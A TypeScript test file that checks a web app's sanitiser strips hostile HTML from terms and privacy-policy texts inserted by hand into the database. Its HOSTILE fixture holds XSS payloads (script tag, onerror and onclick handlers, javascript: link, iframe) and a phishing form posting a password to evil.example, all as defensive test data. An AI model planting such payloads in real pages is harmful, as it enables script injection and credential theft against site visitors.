/**
 * Legal texts come back sanitised (domain/legalHtml.ts): the seed stores them clean, and a text put
 * into the database by hand (SQL) with scripts, styles, forms and handlers is cleaned as it is read.
 */
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { privacyPolicyHtml, termsHtml } from '../../server/db/demo/catalogue.ts';
import { content } from '../../server/db/schema.ts';
import { call, expectSuccess, startPrivateTestServer, type TestServer } from './harness.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startPrivateTestServer();
});
afterAll(() => server?.close());

const HOSTILE = [
  '<style>body { display: none }</style>',
  '<h2>Terms</h2>',
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  '<script>alert(1)</script>',
  '<p style="color: red" onclick="steal()">We deliver across Rajkot.</p>',
  '<img src="x" onerror="steal()">',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:steal()">more</a> <a href="https://rajkotscoops.example/">site</a> <strong>Note</strong>',
].join('');
const CLEAN = '<h2>Terms</h2>Log in<p>We deliver across Rajkot.</p><a>more</a> <a href="https://rajkotscoops.example/">site</a> <strong>Note</strong>';

describe('legal texts', () => {
  it('the seeded texts are stored as they were written (they hold nothing to remove) and answered the same', async () => {
    const rows = await server.database.db.select().from(content);
    expect(Object.fromEntries(rows.map((row) => [row.key, row.html]))).toEqual({ privacy_policy: privacyPolicyHtml, terms: termsHtml });
    expect(expectSuccess('getTermsCondition', await call(server, 'getTermsCondition')).TermsAndCondition).toBe(termsHtml);
  });

  it('texts put in by SQL with script, style, form, handlers and javascript: links come back clean, and again after a change', async () => {
    const { db } = server.database;
    await db.update(content).set({ html: HOSTILE }).where(eq(content.key, 'terms'));
    await db.update(content).set({ html: HOSTILE }).where(eq(content.key, 'privacy_policy'));
    expect(expectSuccess('getTermsCondition', await call(server, 'getTermsCondition')).TermsAndCondition).toBe(CLEAN);
    expect(expectSuccess('getPrivacyPolicy', await call(server, 'getPrivacyPolicy')).PrivacyPolicy).toBe(CLEAN);

    await db.update(content).set({ html: `${HOSTILE}<p onmouseover="x()">Changed.</p>` }).where(eq(content.key, 'terms'));
    expect(expectSuccess('getTermsCondition', await call(server, 'getTermsCondition')).TermsAndCondition).toBe(`${CLEAN}<p>Changed.</p>`);
  });
});
